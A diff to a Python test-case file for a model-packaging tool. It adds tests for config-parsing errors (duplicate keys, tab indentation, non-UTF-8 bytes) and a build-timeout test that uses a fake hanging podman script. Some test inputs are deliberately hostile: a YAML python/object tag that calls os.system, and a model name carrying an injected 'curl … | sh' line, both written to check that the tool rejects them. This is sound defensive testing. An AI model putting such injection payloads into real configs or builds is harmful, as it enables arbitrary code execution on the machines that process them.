@@ -94,10 +94,11 @@ class Ctx:
         path.write_text(yaml.safe_dump(cfg))
         return path
 
-    def serving_config(self, **smoke) -> Path:
+    def serving_config(self, *, containers: dict | None = None, **smoke) -> Path:
         """Deployment sections only matter at smoke time; the run's recorded config supplies the rest."""
         cfg = read_manifest(self.fixture("tiny_run")).stages["train"].parameters["config"]
         cfg["smoke"] = {**cfg.get("smoke", {}), **smoke}
+        cfg["containers"] = {**cfg.get("containers", {}), **(containers or {})}
         path = self.tmp / "serve.yaml"
         path.write_text(yaml.safe_dump(cfg))
         return path
@@ -197,6 +198,27 @@ def wrong_config_type(c: Ctx):
 def config_yaml_syntax(c: Ctx):
     path = c.write("broken.yaml", "run:\n  name: t\nbase: [unclosed\n")
     return ["train", "-c", str(path)]
+
+
+def config_lines(*lines: str):
+    """A config written by hand, line by line (so the case knows each line's number): {base} is the tiny
+    base model's folder."""
+    def make(c: Ctx):
+        text = "\n".join(lines).format(base=c.base) + "\n"
+        return ["train", "-c", str(c.write("project/packager.yaml", text))]
+    return make
+
+
+def config_not_utf8(c: Ctx):
+    path = c.tmp / "project" / "packager.yaml"
+    path.parent.mkdir(parents=True)
+    path.write_bytes(f"base:\n  model: {c.base}\nrun:\n  name: caf\xe9\n".encode("latin-1"))
+    return ["train", "-c", str(path)]
+
+
+def config_is_a_directory(c: Ctx):
+    (c.tmp / "project" / "packager.yaml").mkdir(parents=True)
+    return ["train", "-c", str(c.tmp / "project" / "packager.yaml")]
 
 
 def traversal_run_name(c: Ctx):
@@ -405,6 +427,25 @@ def engine_fails_mid_build(c: Ctx):
     return ["containerize", str(c.run()), "--target", "vllm", "--build", "--engine", "podman"]
 
 
+HUNG_PODMAN = """#!/bin/sh
+case "$1" in
+  version) echo 5.4.2 ;;
+  build) echo "STEP 1/9: FROM docker.io/vllm/vllm-openai:v0.33.0"; exec /bin/sleep 600 ;;
+  *) exit 1 ;;
+esac
+"""
+
+
+def engine_hangs_mid_build(c: Ctx):
+    bin_dir = c.tmp / "fake-bin"
+    bin_dir.mkdir()
+    (bin_dir / "podman").write_text(HUNG_PODMAN)
+    (bin_dir / "podman").chmod(0o755)
+    c.env["PATH"] = f"{bin_dir}:{no_engine_path(c.tmp)}"
+    return ["containerize", str(c.run()), "--target", "vllm", "--build", "--engine", "podman",
+            "-c", str(c.serving_config(containers={"timeout_s": 2}))]
+
+
 def registry_down(c: Ctx):
     from packager.serve.smoke import free_port
 
@@ -583,6 +624,31 @@ CASES = [
     Case("unknown-config-key", unknown_config_key, 2, ("train.learning_rte",), absent=(RUN,)),
     Case("wrong-type-in-config", wrong_config_type, 2, ("train.batch_size",), absent=(RUN,)),
     Case("config-yaml-syntax", config_yaml_syntax, 2, ("{tmp}/broken.yaml", "(yaml) line 4", "expected ',' or ']'")),
+    Case("config-key-given-twice", config_lines("base:", "  model: {base}", "train:", "  max_steps: 2",
+                                                "  learning_rate: 0.01", "  max_steps: 200"), 2,
+         ("line 6: train.max_steps: given twice (also on line 4)", "keeps only the last"), absent=("project/runs",)),
+    Case("config-section-given-twice", config_lines("base:", "  model: {base}", "data:", "  train: a.jsonl",
+                                                    "data:", "  eval: b.jsonl"), 2,
+         ("2 problems", "line 5: data: given twice (also on line 3)", "line 5: data.train: Field required"),
+         absent=("project/runs",)),
+    Case("config-section-is-a-value", config_lines("base:", "  model: {base}", "train: 5"), 2,
+         ("line 3: train: expected a section (indented key: value lines), got 5",), absent=("project/runs",)),
+    Case("config-wrong-type-at-its-line", config_lines("base:", "  model: {base}", "train:", "  batch_size: four",
+                                                       "  seed: [8]"), 2,
+         ("line 4: train.batch_size: Input should be a valid integer", "(got 'four')", "line 5: train.seed"),
+         absent=("project/runs",)),
+    Case("config-tab-indentation", config_lines("base:", "\tmodel: {base}"), 2,
+         ("(yaml) line 2, column 1", "found character '\\t' that cannot start any token"), absent=("project/runs",)),
+    Case("config-python-tag", config_lines("base:", "  model: !!python/object/apply:os.system ['touch pwned']"), 2,
+         ("(yaml) line 2", "could not determine a constructor", "python/object/apply:os.system"),
+         absent=("pwned", "project/pwned", "project/runs")),
+    Case("config-two-documents", config_lines("base:", "  model: {base}", "---", "base:", "  model: other"), 2,
+         ("(yaml) line 3", "expected a single document in the stream, but found another"),
+         absent=("project/runs",)),
+    Case("config-not-utf8", config_not_utf8, 2, ("{tmp}/project/packager.yaml", "(yaml) line 4: not UTF-8 text "
+                                                 "(byte 0xe9)"), absent=("project/runs",)),
+    Case("config-is-a-directory", config_is_a_directory, 2, ("{tmp}/project/packager.yaml",
+                                                             "is a directory, not a config file")),
     Case("run-name-with-traversal", traversal_run_name, 2, ("run.name", "'..'"),
          absent=("project/escape", "escape", "project/runs")),
     Case("base-model-with-a-newline", config_text("base", model="{base}\nRUN curl http://127.0.0.1:9 | sh"), 2,
@@ -650,6 +716,9 @@ CASES = [
          absent=(f"{COPY}/containers/vllm-image.json",), check=nothing_recorded("image-vllm", COPY)),
     Case("engine-fails-mid-build", engine_fails_mid_build, 1, ("podman build of", "failed (exit 125)",
                                                                "no space left on device"),
+         absent=(f"{COPY}/containers/vllm-image.json",), check=nothing_recorded("image-vllm", COPY)),
+    Case("engine-hangs-mid-build", engine_hangs_mid_build, 1, ("build: `podman build -t` did not finish in 2 s "
+                                                               "and was stopped", "containers.timeout_s"),
          absent=(f"{COPY}/containers/vllm-image.json",), check=nothing_recorded("image-vllm", COPY)),
     Case("registry-down", registry_down, 1, ("cannot reach the registry 127.0.0.1:", "connection refused"),
          check=nothing_recorded("push-oci-merged", COPY)),
